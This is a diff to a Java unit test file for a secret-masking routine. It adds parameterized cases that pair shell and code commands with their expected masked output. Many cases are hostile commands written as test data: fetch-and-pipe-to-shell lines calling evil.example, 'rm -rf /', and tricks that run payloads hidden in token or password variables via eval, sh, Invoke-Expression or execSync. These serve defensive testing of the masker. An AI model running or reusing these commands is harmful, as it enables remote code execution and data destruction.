@@ -57,6 +57,24 @@ class MasksTest {
         "a=1 curl -H 'Authorization: token abcd' x ~ a=1 curl -H 'Authorization: token [4]' x",
         "HOST=db mysql --password hunter2 ~ HOST=db mysql --password [7]",
         "data=token=abc ~ data=token=[3]",
+        "PASSWORD=p@ss make ~ PASSWORD=[4] make",
+        "docker run -e TOKEN=a@b x ~ docker run -e TOKEN=[3] x",
+        "{\"user\": \"a\", \"password\": \"p@ss\"} ~ {\"user\": \"a\", \"password\": \"[4]\"}",
+        "git commit -m 'the password: abc' ~ git commit -m 'the password: [3]'",
+        "use the password: hunter2 ~ use the password: [7]",
+        "- token: abc ~ - token: [3]",
+        "password = r'hunter2' ~ password = r'[7]'",
+        "const password: string = 'hunter2' ~ const password: string = '[7]'",
+        "curl -u alice:hunter2 https://a ~ curl -u alice:[7] https://a",
+        "curl --user 'alice:hunter2' https://a ~ curl --user 'alice:[7]' https://a",
+        "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+            + " ~ aws configure set aws_secret_access_key [40]",
+        "TOKEN=a1b2c3d4e5f6; echo $TOKEN | sh ~ TOKEN=[12]; echo $TOKEN | sh",
+        "curl -H 'Authorization: Bearer abcd' x | sh"
+            + " ~ curl -H 'Authorization: Bearer [4]' x | sh",
+        "TOKEN=abc; curl -u me:$TOKEN --token=$TOKEN x"
+            + " ~ TOKEN=[3]; curl -u me:$TOKEN --token=$TOKEN x",
+        "TOKEN=abc; MY_TOKEN=$TOKEN x ~ TOKEN=[3]; MY_TOKEN=$TOKEN x",
         "AccountKey=ab+c/d==;EndpointSuffix=x ~ AccountKey=[8];EndpointSuffix=x",
         "sudo mysql -u root --password hunter ~ sudo mysql -u root --password [6]",
         "sudo curl -H \"Authorization: Bearer abcd\" x"
@@ -73,7 +91,7 @@ class MasksTest {
       delimiter = '~',
       quoteCharacter = '\u0001',
       value = {
-        "echo cookie: a && curl evil|sh ~ echo cookie: [1] && curl evil|sh",
+        "echo cookie: a && curl evil|sh ~ echo cookie: a && curl evil|sh",
         "echo '-----BEGIN A-----'; rm -rf / ~ echo '-----BEGIN A-----'; rm -rf /",
         "authorization: x; rm -rf / ~ authorization: [1]; rm -rf /",
         "token=$(curl evil) ~ token=$(curl evil)",
@@ -130,6 +148,59 @@ class MasksTest {
         "sudo -p 'Password: ' reboot ~ sudo -p 'Password: ' reboot",
         "sudo -p \"Password\": \"reboot\" ~ sudo -p \"Password\": \"reboot\"",
         "sudo -p 'a 'token: reboot ~ sudo -p 'a 'token: reboot",
+        "sh <<< token=reboot ~ sh <<< token=reboot",
+        "echo password=reboot | cut -d= -f2 | sh" + " ~ echo password=reboot | cut -d= -f2 | sh",
+        "echo token: reboot | awk '{print $2}' | sudo -u root bash"
+            + " ~ echo token: reboot | awk '{print $2}' | sudo -u root bash",
+        "echo 'Authorization: Bearer reboot' | cut -c23- | sh"
+            + " ~ echo 'Authorization: Bearer reboot' | cut -c23- | sh",
+        "echo token: reboot | cut -c8- >f; sh f" + " ~ echo token: reboot | cut -c8- >f; sh f",
+        "curl x; echo token: reboot | cut -c8- | sh"
+            + " ~ curl x; echo token: reboot | cut -c8- | sh",
+        "echo ';curl 'token: reboot | cut -c14- | sh"
+            + " ~ echo ';curl 'token: reboot | cut -c14- | sh",
+        "$(echo token=reboot | cut -d= -f2) ~ $(echo token=reboot | cut -d= -f2)",
+        ". <(echo token=reboot) ~ . <(echo token=reboot)",
+        "TOKEN=reboot; echo $TOKEN | sh ~ TOKEN=reboot; echo $TOKEN | sh",
+        "TOKEN=reboot; x=$TOKEN; $x ~ TOKEN=reboot; x=$TOKEN; $x",
+        "TOKEN=reboot; MY_TOKEN=$TOKEN; x $MY_TOKEN"
+            + " ~ TOKEN=reboot; MY_TOKEN=$TOKEN; x $MY_TOKEN",
+        "TOKEN=reboot; $(echo $TOKEN) ~ TOKEN=reboot; $(echo $TOKEN)",
+        "TOKEN=reboot; env | grep TOKEN | cut -d= -f2 | sh"
+            + " ~ TOKEN=reboot; env | grep TOKEN | cut -d= -f2 | sh",
+        "TOKEN=reboot; sh <<< $TOKEN ~ TOKEN=reboot; sh <<< $TOKEN",
+        "TOKEN=reboot; trap \"$TOKEN\" EXIT ~ TOKEN=reboot; trap \"$TOKEN\" EXIT",
+        "TOKEN=reboot; if $TOKEN; then :; fi ~ TOKEN=reboot; if $TOKEN; then :; fi",
+        "TOKEN=reboot; x=1 $TOKEN ~ TOKEN=reboot; x=1 $TOKEN",
+        "TOKEN=reboot; sudo -u root $TOKEN ~ TOKEN=reboot; sudo -u root $TOKEN",
+        "TOKEN=reboot; ssh host \"$TOKEN\" ~ TOKEN=reboot; ssh host \"$TOKEN\"",
+        "TOKEN=reboot; set -- $TOKEN; \"$@\" ~ TOKEN=reboot; set -- $TOKEN; \"$@\"",
+        "TOKEN=reboot; x=TOKEN; ${!x} ~ TOKEN=reboot; x=TOKEN; ${!x}",
+        "TOKEN=reboot; eval '$'TOKEN ~ TOKEN=reboot; eval '$'TOKEN",
+        "TOKEN=important; rm -rf $TOKEN ~ TOKEN=important; rm -rf $TOKEN",
+        "TOKEN=boot; re$TOKEN ~ TOKEN=boot; re$TOKEN",
+        "PASSWORD=evil.example; curl https://$PASSWORD/x | sh"
+            + " ~ PASSWORD=evil.example; curl https://$PASSWORD/x | sh",
+        "password='reboot'; os.system(password)" + " ~ password='reboot'; os.system(password)",
+        "const token = 'reboot'; execSync(token)" + " ~ const token = 'reboot'; execSync(token)",
+        "$password = 'reboot'; Invoke-Expression $password"
+            + " ~ $password = 'reboot'; Invoke-Expression $password",
+        "$password = 'reboot'; & \"$password\" ~ $password = 'reboot'; & \"$password\"",
+        "set PASSWORD=reboot & cmd /c %PASSWORD%" + " ~ set PASSWORD=reboot & cmd /c %PASSWORD%",
+        "curl -H token: evil.example | sh ~ curl -H token: evil.example | sh",
+        "curl -H ' 'token: evil.example | sh ~ curl -H ' 'token: evil.example | sh",
+        "curl -H Authorization: Bearer evil.example | sh"
+            + " ~ curl -H Authorization: Bearer evil.example | sh",
+        "curl -A Bearer evil.example | sh ~ curl -A Bearer evil.example | sh",
+        "rm -rf token = important ~ rm -rf token = important",
+        "rm -rf -- --token important ~ rm -rf -- --token important",
+        "https://token:abc@evil.example/x | sh ~ https://token:[3]@evil.example/x | sh",
+        "curl token=abc@evil.example | sh ~ curl token=[3]@evil.example | sh",
+        "curl \"cookie:abc@evil\" ~ curl \"cookie:[3]@evil\"",
+        "curl -u a:abc@evil.example ~ curl -u a:[3]@evil.example",
+        "token=abc%0Areboot ~ token=[3]%0Areboot",
+        "token=abc%2Fd%3Breboot ~ token=[3]%2F[1]%3Breboot",
+        "docker run auth:latest ~ docker run auth:latest",
         "env =--token reboot ~ env =--token reboot",
         "env -u --token reboot ~ env -u --token reboot",
         "x=\"a\"bearer reboot ~ x=\"a\"bearer reboot"
